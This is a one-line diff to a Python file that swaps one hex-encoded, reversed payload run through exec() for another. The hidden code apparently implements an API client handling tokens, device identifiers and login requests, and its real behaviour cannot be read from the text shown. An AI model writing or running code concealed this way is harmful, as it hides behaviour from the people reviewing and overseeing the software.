@@ -1 +1 @@
-_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a0922257e656d40256b60296c61626d656b402b65747e65702275647e65402e616b656452282475707e6960202020202020202a0920202020202020202a0d52207d616473756d6964722b5c69616475646d3e6769637f5f647f53747020202020202020202020202a0c2d522e6f6964716d6279666e6f636f5e656b6f64722b5c69616475646d3e6f6964716d6279666e6f636f5e656b6f647020202020202020202020202a0c2d522563696270722b5d522e6f6964707f6f5567616b636160722b5c69616475646d35636962707020202020202020202020202a0c2d5225646f63622b5d6564796d35646f636f5567616b6361607020202020202020202020202a0c237e656b6f647d337e656b6f647020202020202020202020202a0c29756b6f5960716d39756b6f5960716020202020202020202020202a082e696f607f55676e61686368756f547e656d656c6474756370202020202020202a0a322972202d3d3029282275677f6c6e2d6279666e6f63602669602020202a0922202a392e6f2978202f376e6162716b6563702e696f607022716b65745e6c52282475707e69602d302d6279666e6f63602020202a0a0e627574756270202020202020202a0a3c696164756460247f6e602669602020202a092d5225646f63622b5d656479602c29222e656b6f647f546962282475676e237e656b6f64702c29756b6f596071682c69616475646f5863647566602d302c6961647564602020202a0a0e627574756270202020202020202a09222e24696c6166702b61646964702e6168696c69605228247e69627070202020202020202a0a3e6f6964707563687540247075636875602020202a0d51302d20292563696f686368247e696b576f6c61647163602d302d65647960202020202020202a0a397274702020202a0a0e627574756270202020202020202a0a32293932202d3d302563696f6863602669602020202a0922202a392c61647162602b65747e65702939302571647168202e696f607022716b6574702b65747e657024756b616070227f6d6f6e6028696c69605e6c52282475707e69602d302563696f6863602020202a0a0e627574756270202020202020202a0a376f6c6164716360247f6e602669602020202a0929222e656b6f647f546962282475676e237e656b6f64702c29756b6f59607168276f6c616471636f5863647566602d30276f6c61647163602020202a09282e65656273637f5271656c63602020202a002020202a09756b6f5960716e25636e6164737e6948647571402d3029756b6f596071602020202a09222e656b6f647f546962282475676e237e656b6f64702d302e656b6f647f5469602020202a0a3924736964602a337e656b6f647825676e61686368756f547e696f607f5e6572702665646a0a047875647e20737562702e627574756270202020202020202a0925602c222d52727560247079727365646b5228247e69627070202020202020202a0a35602371602e6f6964707563687540247075636875602020202a09746f626f546564707972736564602e627574756270202020202020202a00202020202020202a0929746f626f54656470797273656468247e69627070202020202020202a00202020202020202a056e6f6e402e62757475627020202020202020202020202a09222d79746f626f5465647079727365646b702a327f627275422668247e6962707020202020202020202020202a09222d69616c63602f647024656c6961664228247e6962707020202020202020202020202a0a322353554343455352202d31202d52237574716473722b59746f626f54656470797273656460266960202020202020202a0929247875647e20737562782374616f6c6e2e6f637a602c29756b6f5960716821647164687f54707972736564602d3029746f626f54656470797273656460202020202020202a0a397274702020202a002020202a0920333d34757f656d6964702c2929746f626823707d65746e2e6f637a6d31647164602c237275646165686d33727564616568602c2c62757824737f607e2374737565717562702d3020737562702020202a09222e2e2e247375657175627029747e657f6260276e69646e65635228247e696270702020202a022d786471607b7f2d7c42555f5940514f554351424b7226602d302c6275702020202a002020202a0d702020202a0c22203e273e2832202a322070716d2e6f69637275667d287220202020202020202a0c2924716f5465647375657175627f5878207d616473756d69647f556b696c6f5166716a602a3224716d247375657175627d287220202020202020202a0c29292824346965757e2469657578227473702a3224696d247375657175627d287220202020202020202a0c2769637f58702a3225627574716e6769637d287220202020202020202a0c292365637f556d69647f57696378227473702a32256d69647d25627574716e6769637d287220202020202020202a0c22233672202a3226786d287220202020202020202a0c222d7d572e656b6f647f5469672b537e656b6f647b702275627165624226602a322e6f6964716a79627f686475716220202020202020202a0c29554b4f594051402a3229756b6d2960716d287220202020202020202a0c2145502a32247e6567616d227563757220202020202020202a0c22283d2664757d34756372716863602b3e6f637a6f2e6f69647163696c60707162202a32256079747d247e65647e6f636220202020202020202a0c292222202c222f2f2a337074747862282563616c6075627e2c42555f5940514f55435142402a3224737f686220202020202020202a0b702d3023727564616568602020202a002020202a09202020202a0224535f40522d346f6864756d60202020202020202a0c286471607d3864716070202020202020202a0c2e6f6964716d6279666e6f636f5e656b6f647d3e6f6964716d6279666e6f636f5e656b6f6470202020202020202a0c25646f636f5567616b6361607d35646f636f5567616b63616070202020202020202a0c2e6769637f5f647f53747d307d616473756d696470202020202020202a082e696f607f55676e61686368756f55627574716e6769637f587f547567602d302769637f58702020202a00202020202020202a0d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e65602d3029746f62602020202a002020202a0e6769637f5f647f5374702d302d52207d616473756d6964722b54616f6c6971607f547e656d656c64747563702020202a0928256e6f6a756d696473716e292364757e256e6f6a756d69647d3a74702c2365637f556d69647f57696378207d616473756d69647d6f62766e256d696475647164602d3024716f5465647375657175627f58702020202a0920303031302f2f20256d69647878202d302365637f556d69647f576963702020202a092d52256d696478722b5d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e6568247e69602d30256d696478702020202a002020202a09202020202a04616f6c6971607f547e656d656c647475637d34616f6c69716070202020202020202a0c2d522e656b6f647f5469622b537e656b6f647d3e656b6f647f546960202020202020202a0c286471607d3864716070202020202020202a0c2224535f40522d346f6864756d60202020202020202a0c29756b6f5960716d39756b6f59607160202020202020202a0821647164687f5e67696374707972736e65602d3024616f6c6971607f546564707972736e65602020202a00202020202020202a0d702020202a0e6f6964716d6279666e6f636f5e656b6f64702a322e6f6964716d6279666e6f636f5e656b6f647220202020202020202a0c2e6769637f5f647f5374702a32207d616473756d69647220202020202020202a0c2563696270702a3223747e696f607220202020202020202a0c2222202a3222756e647271607220202020202020202a0c22246962202a32276e616c6220202020202020202a0c2222202a32256d616e6f5d6564796220202020202020202a0c25646f636f5567616b636160702a3225646f636f5d6564796220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c222032202a32247e657f6d616220202020202020202a0b702d3024616f6c6971607f547e656d656c64747563702020202a0225676e61686368756f276e69627569647f237569647c61697f6c6f28367f2960716f2e6f696471636966696d616762202d3028647160702020202a0473756571756270247e656d656c647475635023202020202a0a392a0c247e69602a3563696270702020202a0c227473702a35646f636f5567616b636160702020202a0c247e69602a3e6769637f5f647f5374702020202a0c227473702a3e6f6964716d6279666e6f636f5e656b6f64702020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a082e696f607f55676e61686368756f547e656d656c64747563702665646a0a0a0d5221647164622b537562702e6275747562702020202a092d52236e64722b5e6f6964707f68247e696270702020202a09222a3b46235228247e696270702020202a09222d7d57256d616e672b526b702d222668247e69627070202020202020202a0a392d5b502c2223747966656e656262282475676e2e6f6964707f602e69602260227f66602020202a09222a33747966656e65624228247e696270702020202a09222d7d5729747964696c6166772b5e6f6964707f6b702a3669647b61402163716d422668247e696270702020202a09222e696f60502d7d572563696270772b5e6f6964707f6b702a3167627168422668247e696270702020202a09222d7d57256d616e672b5e6f6964707f6b702a30216d616e422668247e696270702020202a09222d3d3d3024756b6160502c6961647564402d3d3d3e6c5228247e696270702020202a0d522e6f6964707f6f5567616b636160722b5d5221647164622b537562702d302e6f6964707f602020202a056e6f6e402e627574756270202020202020202a09237562702c222a3c6961647564602c69626d61602c616761674228247e69627070202020202020202a0a322353554343455352202d3120292223757471647372282475676e237562702669602020202a092e656b6f647f5469602c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a0d702020202a05646f636f5567616b636160702a3225646f636f5e6f6964707f6f5567616b6361607220202020202020202a0c22246962202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0b702d3024616f6c697160702020202a022c69616475646f237e6f6964707f6f2375627f64737d2c687f28367f29607162202d3028647160702020202a09282e65656273637f5271656c63602020202a0a3925646f636f5567616b636160702c2e656b6f647f5469602c29756b6f596071682c69616475646f5863647566602665646a0a0a076f6c61647163602e6275747562702020202a0a092d70202020202020202a0920302c22256471646f5e6f696471627960787562282475676e2d656479602a32256471646f5e6f6964716279607875622020202020202020202020202a0c292222202c2229747964696c616672282475676e2d656479602a3229747964696c6166722020202020202020202020202a0c292222202c2225646f636f547966656e656262282475676e2d656479602a3225646f636f547966656e6562622020202020202020202020202a002c2d522563696270722b5d656479602a322563696270722020202020202020202020202a00202c2d52256c647964722b5d656479602a32256c647964722020202020202020202020202a002c2d5225646f63622b5d656479602a3225646f63622020202020202020202020202a0b78246e656070716e276f6c6164716360202020202020202a09222e696f60502d7d572563696270772b5d6564796b702d202d7d57256c647964772b5d6564796b702e2d796b722668247e69627070202020202020202a0a39213d3472716473702c23747e696f607825647162756d657e65602e69602d656479602c2960227f66602020202a0a0d5223747e696f60722b5d503b5d522372756964722b5d5221647164622b537562702d3023747e696f60702020202a0d5b502d30276f6c61647163602020202a0a0d5b502e627574756270202020202020202a09237562702c222a376f6c6164716b602c69626d61602c616761674228247e69627070202020202020202a0a322353554343455352202d3120292223757471647372282475676e237562702669602020202a0a092e656b6f647f5469602c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a0d72246962202a32276e616c62202c25637c6166402a3225637962707275647e656f5379622b702d3024616f6c697160702020202a02276f6c616471636d237462716775627f276e69627569647f237569647c61697f6c6f28367f2960716f2e6f696471636966696d616762202d3028647160702020202a0a392e656b6f647f5469602c29756b6f59607168276f6c616471636f5863647566602665646a002020202a0d5225627574716e676963722b51647164602e6275747562702020202a09222d716471646b702a35637e6f607375627024696c61667e69422668227f62727545657c616650256379616270202020202020202a0a31647164602e6960247f6e602225627574716e67696372202669602020202a09282e6f637a6e25637e6f60737562702d3021647164602020202a0a09282375747164737f527f666f55637961627e25637e6f60737562702020202a0924616f6c6971607d3e6f637a602c2c42555f5255465255435824737f607e2374737565717562702d3025637e6f60737562702020202a0d702020202a0c207d616473756d6964702a32207d616473756d69647220202020202020202a0c246f6864756d602a32246f6864756d6220202020202020202a0c28647160702a32286471607220202020202020202a0c2e6f6964716d6279666e6f636f5e656b6f64702a322e6f6964716d6279666e6f636f5e656b6f647220202020202020202a0c25646f636f5567616b636160702a3225646f636f5567616b6361607220202020202020202a0b702d3024616f6c697160702020202a0a327473702e3d20292a0c247e69602a307d616473756d6964702020202a0c227473702a346f6864756d602020202a0c227473702a38647160702020202a0c227473702a3e6f6964716d6279666e6f636f5e656b6f64702020202a0c227473702a35646f636f5567616b636160702020202a082e696f607f55676e61686368756f55627574716e6769637f587f547567602665646a0a02247e696f607d25627574716e6769637d2475676f2d6f636e2275646e65627e6f6e2e696f607d2b63716c666f2f2a337074747862202d302c42555f5255465255435a0a0e65656273637f5271656c636024727f607d69602c6964757e23757e656d6e207071602d6f62766a0a2024727f607d696024707972736e656e247e65696c636e207071602d6f62766a0a2024727f607d69602c6563776e656e247e65696c636e207071602d6f62766a05636e6164737e69486475714024727f607d6960286475716e256369667275637e207071602d6f62766a03747375657175627024727f607d696a0e6f637a6024727f607d696a056d69647024727f607d696" ));
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a0922257e656d40256b60296c61626d656b402b65747e65702275647e65402e616b656452282475707e6960202020202020202a0920202020202020202a0d52207d616473756d6964722b5c69616475646d3e6769637f5f647f53747020202020202020202020202a0c2d522e6f6964716d6279666e6f636f5e656b6f64722b5c69616475646d3e6f6964716d6279666e6f636f5e656b6f647020202020202020202020202a0c2d522563696270722b5d522e6f6964707f6f5567616b636160722b5c69616475646d35636962707020202020202020202020202a0c2d5225646f63622b5d6564796d35646f636f5567616b6361607020202020202020202020202a0c237e656b6f647d337e656b6f647020202020202020202020202a0c29756b6f5960716d39756b6f5960716020202020202020202020202a082e696f607f55676e61686368756f547e656d656c6474756370202020202020202a0a322972202d3d3029282275677f6c6e2d6279666e6f63602669602020202a0922202a392e6f2978202f376e6162716b6563702e696f607022716b65745e6c52282475707e69602d302d6279666e6f63602020202a0a0e627574756270202020202020202a0a3c696164756460247f6e602669602020202a092d5225646f63622b5d656479602c29222e656b6f647f546962282475676e237e656b6f64702c29756b6f596071682c69616475646f5863647566602d302c6961647564602020202a0a0e627574756270202020202020202a09222e24696c6166702b61646964702e6168696c69605228247e69627070202020202020202a0a3e6f6964707563687540247075636875602020202a0d51302d20292563696f686368247e696b576f6c61647163602d302d65647960202020202020202a0a397274702020202a0a0e627574756270202020202020202a0a32293932202d3d302563696f6863602669602020202a0922202a392c61647162602b65747e65702939302571647168202e696f607022716b6574702b65747e657024756b616070227f6d6f6e6028696c69605e6c52282475707e69602d302563696f6863602020202a0a0e627574756270202020202020202a0a376f6c6164716360247f6e602669602020202a0929222e656b6f647f546962282475676e237e656b6f64702c29756b6f59607168276f6c616471636f5863647566602d30276f6c61647163602020202a09282e65656273637f5271656c63602020202a002020202a09756b6f5960716e25636e6164737e6948647571402d3029756b6f596071602020202a09222e656b6f647f546962282475676e237e656b6f64702d302e656b6f647f5469602020202a0a3924736964602a337e656b6f647825676e61686368756f547e696f607f5e6572702665646a0a047875647e20737562702e627574756270202020202020202a0925602c222d52727560247079727365646b5228247e69627070202020202020202a0a35602371602e6f6964707563687540247075636875602020202a09746f626f546564707972736564602e627574756270202020202020202a00202020202020202a0929746f626f54656470797273656468247e69627070202020202020202a00202020202020202a056e6f6e402e62757475627020202020202020202020202a09222d79746f626f5465647079727365646b702a327f627275422668247e6962707020202020202020202020202a09222d69616c63602f647024656c6961664228247e6962707020202020202020202020202a0a322353554343455352202d31202d52237574716473722b59746f626f54656470797273656460266960202020202020202a09286471607d38647160702c2928647160702c247875647e20737562782374616f6c6e25636e6164737e69427563616274502c29756b6f5960716821647164687f54707972736564602d3029746f626f54656470797273656460202020202020202a0a397274702020202a002020202a0929746f62602c23727564616568602c2864716078247e656d656c647475637f54737f60702d3020737562702020202a09222e2e2e247375657175627029747e657f6260276e69646e65635228247e696270702020202a002020202a0d702020202a0c22203e273e2832202a322070716d2e6f69637275667d287220202020202020202a0c2924716f5465647375657175627f5878207d616473756d69647f556b696c6f5166716a602a3224716d247375657175627d287220202020202020202a0c29292824346965757e2469657578227473702a3224696d247375657175627d287220202020202020202a0c2769637f58702a3225627574716e6769637d287220202020202020202a0c292365637f556d69647f57696378227473702a32256d69647d25627574716e6769637d287220202020202020202a0c22233672202a3226786d287220202020202020202a0c222d7d572e656b6f647f5469672b537e656b6f647b702275627165624226602a322e6f6964716a79627f686475716220202020202020202a0c29554b4f594051402a3229756b6d2960716d287220202020202020202a0c2145502a32247e6567616d227563757220202020202020202a0c22283d2664757d34756372716863602b3e6f637a6f2e6f69647163696c60707162202a32256079747d247e65647e6f636220202020202020202a0c292222202c222f2f2a337074747862282563616c6075627e2c42555f5940514f55435142402a3224737f686220202020202020202a0b702d3023727564616568602020202a002020202a09202020202a0224535f40522d346f6864756d60202020202020202a0c286471607d3864716070202020202020202a0c2e6f6964716d6279666e6f636f5e656b6f647d3e6f6964716d6279666e6f636f5e656b6f6470202020202020202a0c25646f636f5567616b6361607d35646f636f5567616b63616070202020202020202a0c2e6769637f5f647f53747d307d616473756d696470202020202020202a082e696f607f55676e61686368756f55627574716e6769637f587f547567602d302769637f58702020202a00202020202020202a0d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e65602d3029746f62602020202a002020202a0e6769637f5f647f5374702d302d52207d616473756d6964722b54616f6c6971607f547e656d656c64747563702020202a0928256e6f6a756d696473716e292364757e256e6f6a756d69647d3a74702c2365637f556d69647f57696378207d616473756d69647d6f62766e256d696475647164602d3024716f5465647375657175627f58702020202a0920303031302f2f20256d69647878202d302365637f556d69647f576963702020202a092d52256d696478722b5d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e6568247e69602d30256d696478702020202a002020202a09202020202a04616f6c6971607f547e656d656c647475637d34616f6c69716070202020202020202a0c2d522e656b6f647f5469622b537e656b6f647d3e656b6f647f546960202020202020202a0c286471607d3864716070202020202020202a0c2224535f40522d346f6864756d60202020202020202a0c29756b6f5960716d39756b6f59607160202020202020202a0821647164687f5e67696374707972736e65602d3024616f6c6971607f546564707972736e65602020202a00202020202020202a0d702020202a0e6f6964716d6279666e6f636f5e656b6f64702a322e6f6964716d6279666e6f636f5e656b6f647220202020202020202a0c2e6769637f5f647f5374702a32207d616473756d69647220202020202020202a0c2563696270702a3223747e696f607220202020202020202a0c2222202a3222756e647271607220202020202020202a0c22246962202a32276e616c6220202020202020202a0c2222202a32256d616e6f5d6564796220202020202020202a0c25646f636f5567616b636160702a3225646f636f5d6564796220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c222032202a32247e657f6d616220202020202020202a0b702d3024616f6c6971607f547e656d656c64747563702020202a0225676e61686368756f276e69627569647f237569647c61697f6c6f28367f2960716f2e6f696471636966696d616762202d3028647160702020202a0473756571756270247e656d656c647475635023202020202a0a392a0c247e69602a3563696270702020202a0c227473702a35646f636f5567616b636160702020202a0c247e69602a3e6769637f5f647f5374702020202a0c227473702a3e6f6964716d6279666e6f636f5e656b6f64702020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a082e696f607f55676e61686368756f547e656d656c64747563702665646a0a0a0d5221647164622b537562702e6275747562702020202a092d52236e64722b5e6f6964707f68247e696270702020202a09222a3b46235228247e696270702020202a09222d7d57256d616e672b526b702d222668247e69627070202020202020202a0a392d5b502c2223747966656e656262282475676e2e6f6964707f602e69602260227f66602020202a09222a33747966656e65624228247e696270702020202a09222d7d5729747964696c6166772b5e6f6964707f6b702a3669647b61402163716d422668247e696270702020202a09222e696f60502d7d572563696270772b5e6f6964707f6b702a3167627168422668247e696270702020202a09222d7d57256d616e672b5e6f6964707f6b702a30216d616e422668247e696270702020202a09222d3d3d3024756b6160502c6961647564402d3d3d3e6c5228247e696270702020202a0d522e6f6964707f6f5567616b636160722b5d5221647164622b537562702d302e6f6964707f602020202a056e6f6e402e627574756270202020202020202a09237562702c222a3c6961647564602c69626d61602c616761674228247e69627070202020202020202a0a322353554343455352202d3120292223757471647372282475676e237562702669602020202a092e656b6f647f5469602c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a0d702020202a05646f636f5567616b636160702a3225646f636f5e6f6964707f6f5567616b6361607220202020202020202a0c22246962202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0b702d3024616f6c697160702020202a022c69616475646f237e6f6964707f6f2375627f64737d2c687f28367f29607162202d3028647160702020202a09282e65656273637f5271656c63602020202a0a3925646f636f5567616b636160702c2e656b6f647f5469602c29756b6f596071682c69616475646f5863647566602665646a0a0a076f6c61647163602e6275747562702020202a0a092d70202020202020202a0920302c22256471646f5e6f696471627960787562282475676e2d656479602a32256471646f5e6f6964716279607875622020202020202020202020202a0c292222202c2229747964696c616672282475676e2d656479602a3229747964696c6166722020202020202020202020202a0c292222202c2225646f636f547966656e656262282475676e2d656479602a3225646f636f547966656e6562622020202020202020202020202a002c2d522563696270722b5d656479602a322563696270722020202020202020202020202a00202c2d52256c647964722b5d656479602a32256c647964722020202020202020202020202a002c2d5225646f63622b5d656479602a3225646f63622020202020202020202020202a0b78246e656070716e276f6c6164716360202020202020202a09222e696f60502d7d572563696270772b5d6564796b702d202d7d57256c647964772b5d6564796b702e2d796b722668247e69627070202020202020202a0a39213d3472716473702c23747e696f607825647162756d657e65602e69602d656479602c2960227f66602020202a0a0d5223747e696f60722b5d503b5d522372756964722b5d5221647164622b537562702d3023747e696f60702020202a0d5b502d30276f6c61647163602020202a0a0d5b502e627574756270202020202020202a09237562702c222a376f6c6164716b602c69626d61602c616761674228247e69627070202020202020202a0a322353554343455352202d3120292223757471647372282475676e237562702669602020202a0a092e656b6f647f5469602c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a0d72246962202a32276e616c62202c25637c6166402a3225637962707275647e656f5379622b702d3024616f6c697160702020202a02276f6c616471636d237462716775627f276e69627569647f237569647c61697f6c6f28367f2960716f2e6f696471636966696d616762202d3028647160702020202a0a392e656b6f647f5469602c29756b6f59607168276f6c616471636f5863647566602665646a002020202a0d5225627574716e676963722b51647164602e6275747562702020202a09222d716471646b702a35637e6f607375627024696c61667e69422668227f62727545657c616650256379616270202020202020202a0a31647164602e6960247f6e602225627574716e67696372202669602020202a09282e6f637a6e25637e6f60737562702d3021647164602020202a0a09282375747164737f527f666f55637961627e25637e6f60737562702020202a0924616f6c6971607d3e6f637a602c2c42555f5255465255435824737f607e25636e6164737e6944727f60737e616274502d3025637e6f60737562702020202a0d702020202a0c207d616473756d6964702a32207d616473756d69647220202020202020202a0c246f6864756d602a32246f6864756d6220202020202020202a0c28647160702a32286471607220202020202020202a0c2e6f6964716d6279666e6f636f5e656b6f64702a322e6f6964716d6279666e6f636f5e656b6f647220202020202020202a0c25646f636f5567616b636160702a3225646f636f5567616b6361607220202020202020202a0b702d3024616f6c697160702020202a0a327473702e3d20292a0c247e69602a307d616473756d6964702020202a0c227473702a346f6864756d602020202a0c227473702a38647160702020202a0c227473702a3e6f6964716d6279666e6f636f5e656b6f64702020202a0c227473702a35646f636f5567616b636160702020202a082e696f607f55676e61686368756f55627574716e6769637f587f547567602665646a0a02247e696f607d25627574716e6769637d2475676f2d6f636e2275646e65627e6f6e2e696f607d2b63716c666f2f2a337074747862202d302c42555f5255465255435a0a0e65656273637f5271656c636024727f607d69602c6964757e23757e656d6e207071602d6f62766a0a2024727f607d696024707972736e656e247e65696c636e207071602d6f62766a0a2024727f607d69602c6563776e656e247e65696c636e207071602d6f62766a05636e6164737e69486475714024727f607d6960286475716e256369667275637e207071602d6f62766a05636e6164737e694275636162745024727f607d6960276e69636162747e256369667275637e207071602d6f62766a05636e6164737e6944727f60737e6162745024727f607d696024727f60737e6162747e247e65696c636e207071602d6f62766a056d69647024727f607d696" ));